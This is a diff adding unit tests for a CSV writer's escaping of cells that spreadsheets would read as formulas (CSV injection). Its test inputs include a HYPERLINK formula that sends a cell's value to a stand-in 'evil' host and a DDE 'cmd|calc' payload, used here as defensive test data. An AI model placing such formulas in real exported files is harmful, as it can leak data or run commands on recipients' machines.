@@ -94,6 +94,35 @@ describe('renderCsv', () => {
         expect(csvField(true)).toBe('true');
         expect(csvField(null)).toBe('');
     });
+
+    // OWASP's rule for CSV injection: a cell a spreadsheet would take as a formula starts with a quote.
+    it.each([
+        ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
+        ['+1+cmd|calc', "'+1+cmd|calc"],
+        ['-2+3', "'-2+3"],
+        ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+        ['\t=1', "'\t=1"],
+        ['\r=1', `"'\r=1"`],
+        ['＝1+1', "'＝1+1"],
+    ])('a text cell %j is written as %s', (value, expected) => {
+        expect(csvField(value)).toBe(expected);
+        expect(csvField(value, false).startsWith("'") || csvField(value, false).startsWith(`"'`)).toBe(false);
+    });
+
+    it('numbers stay exact: a number value, and a text that is just a number, get no quote', () => {
+        expect(csvField(-5)).toBe('-5');
+        expect(csvField(-1.5e-7)).toBe('-1.5e-7');
+        expect(csvField('-5')).toBe('-5');
+        expect(csvField('+3.25')).toBe('+3.25');
+        expect(csvField('-')).toBe("'-");
+        expect(csvField('safe=text')).toBe('safe=text');
+    });
+
+    it('field names are guarded too, and { exact: true } writes the data as it is', () => {
+        const hostile: RenderTable = { fields: [{ name: '=cmd' }, { name: 'n' }], columns: [['@x', '-1+1'], [-3, 4]] };
+        expect(renderCsv(hostile)).toBe("'=cmd,n\n'@x,-3\n'-1+1,4\n");
+        expect(renderCsv(hostile, { exact: true })).toBe('=cmd,n\n@x,-3\n-1+1,4\n');
+    });
 });
 
 describe('cellText', () => {
